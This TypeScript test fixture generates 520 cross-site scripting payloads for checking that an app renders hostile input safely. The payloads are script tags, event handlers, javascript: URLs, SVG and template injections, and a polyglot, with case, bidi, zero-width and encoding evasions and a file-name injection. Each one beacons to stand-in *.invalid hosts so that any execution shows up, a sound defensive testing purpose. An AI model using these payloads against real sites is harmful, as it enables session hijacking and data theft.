// Hostile strings for the XSS bar: script tags, event handlers, script URLs, CSS, SVG, meta refresh, base,
// object/embed, template injection, markdown links, polyglots, each in several wrappings (attribute breakouts,
// mixed case, bidi and zero-width characters, entity and URL encoding, unterminated). Every payload n, were it
// ever executed, calls window.__xss(n), sends a request off the app's origin (*.invalid) and navigates the
// top window, so execution, egress and navigation are all observable. Each also carries a visible marker
// XM<n>X outside any tag, so a test can count how many were rendered (as text).

export interface XssPayload {
  n: number
  marker: string
  text: string
}

export const markerOf = (n: number): string => `XM${n}X`
export const markerPattern = /XM(\d+)X/g

/** What a payload runs: the beacon, then one of three kinds of egress (fetch, image, navigation). */
function script(n: number): string {
  const egress = [
    `fetch('http://xss-beacon.invalid/${n}')`,
    `new Image().src='http://xss-beacon.invalid/${n}'`,
    `top.location='http://xss.invalid/${n}'`,
  ][n % 3]
  return `window.__xss&&window.__xss(${n});${egress}`
}

/** The beacon alone, with no quotes, for contexts where quotes would end the string early. */
const bare = (n: number): string => `window.__xss&&window.__xss(${n})`
const beaconUrl = (n: number): string => `http://xss-beacon.invalid/${n}`
const navUrl = (n: number): string => `http://xss.invalid/${n}`

type Vector = (n: number) => string

const vectors: Vector[] = [
  (n) => `<script>${script(n)}</script>`,
  (n) => `<script src="${beaconUrl(n)}.js"></script>`,
  (n) => `<img src=x onerror="${script(n)}">`,
  (n) => `<img src="${beaconUrl(n)}.png">`,
  (n) => `<svg onload="${script(n)}">`,
  (n) => `<svg><script>${script(n)}</script></svg>`,
  (n) => `<svg><animate onbegin="${script(n)}" attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:${script(n)}"><text x=20 y=20>go</text></a></svg>`,
  (n) => `<svg><image href="${beaconUrl(n)}.svg" onload="${script(n)}"/></svg>`,
  (n) => `<body onload="${script(n)}">`,
  (n) => `<iframe src="javascript:${script(n)}"></iframe>`,
  (n) => `<iframe srcdoc="&lt;script&gt;parent.${bare(n)}&lt;/script&gt;"></iframe>`,
  (n) => `<iframe src="${beaconUrl(n)}"></iframe>`,
  (n) => `<details open ontoggle="${script(n)}"><summary>x</summary></details>`,
  (n) => `<video src=x onerror="${script(n)}"></video>`,
  (n) => `<audio src=x onerror="${script(n)}"></audio>`,
  (n) => `<input autofocus onfocus="${script(n)}">`,
  (n) => `<form><button formaction="javascript:${script(n)}">go</button></form>`,
  (n) => `<a href="javascript:${script(n)}">click</a>`,
  (n) => `<a href="data:text/html,<script>${bare(n)}</script>">data</a>`,
  (n) => `<a href="vbscript:msgbox(${n})">vb</a>`,
  (n) => `<div style="background:url(${beaconUrl(n)}.gif)">css</div>`,
  (n) => `<div style="width:expression(${bare(n)})">expr</div>`,
  (n) => `<style>@import '${beaconUrl(n)}.css';</style>`,
  (n) => `<meta http-equiv="refresh" content="0;url=${navUrl(n)}">`,
  (n) => `<base href="${beaconUrl(n)}/">`,
  (n) => `<link rel=import href="${beaconUrl(n)}.html">`,
  (n) => `<link rel=stylesheet href="${beaconUrl(n)}.css">`,
  (n) => `<object data="${beaconUrl(n)}.swf"></object>`,
  (n) => `<embed src="javascript:${script(n)}">`,
  (n) => `{{constructor.constructor('${bare(n)}')()}}`,
  (n) => `\${${bare(n)}}`,
  (n) => `{@html '<img src=x onerror="${bare(n)}">'}`,
  (n) => `[click me](javascript:${bare(n)}) ![img](${beaconUrl(n)}.png)`,
  (n) => `javascript:${script(n)}`,
  (n) => `<img src=x onerror=${bare(n)}`,
  (n) => `<scr<script>ipt>${script(n)}</scr</script>ipt>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${script(n)}">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${bare(n)}>">`,
  (n) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${bare(n)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${bare(n)}//>\\x3e`,
]

type Wrapping = (payload: string) => string

const mixCase = (text: string): string =>
  text.replace(/(<\/?)([a-z]+)|(\s)(on[a-z]+|href|src|style)(=)/g, (...match: string[]) => {
    const flip = (word: string): string =>
      [...word].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase())).join('')
    return match[2] !== undefined
      ? `${match[1]}${flip(match[2])}`
      : `${match[3]}${flip(match[4]!)}${match[5]}`
  })

const wrappings: Wrapping[] = [
  (p) => p,
  (p) => `"><${p.startsWith('<') ? p.slice(1) : `b>${p}`}`,
  (p) => `'>${p}`,
  (p) => `</textarea></title></style></noscript>${p}`,
  mixCase,
  (p) => `\u202E${p}\u202C`,
  (p) => `\u2067${p}\u2069\u200F`,
  (p) => p.replace('<', '<\u200B').replace('on', 'o\u200Dn'),
  (p) => `\uFEFF${p.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
  (p) => p.replaceAll('<', '&#x3C;').replaceAll('"', '&#34;'),
  (p) => encodeURIComponent(p),
  (p) => p.replace(/>[^>]*$/, ''),
  (p) => `<!--${p}-->${p}<![CDATA[${p}]]>`,
]

/** Every vector in every wrapping, numbered from `first`: 40 × 13 = 520 distinct payloads. */
export function xssPayloads(first = 0, count = vectors.length * wrappings.length): XssPayload[] {
  const out: XssPayload[] = []
  for (let i = 0; i < count; i++) {
    const n = first + i
    const vector = vectors[i % vectors.length]!
    const wrap = wrappings[Math.floor(i / vectors.length) % wrappings.length]!
    const marker = markerOf(n)
    out.push({ n, marker, text: `${marker} ${wrap(vector(n))} ${marker}` })
  }
  return out
}

/** A payload fit for a Linux file name: no "/" and no NUL, at most ~200 bytes. */
export function fileNamePayload(n: number, extension: string): string {
  const marker = markerOf(n)
  return `${marker} "'><img src=x onerror=${bare(n)}><svg onload=${bare(n)}> ${marker}.${extension}`
}

export const payloadCount = vectors.length * wrappings.length
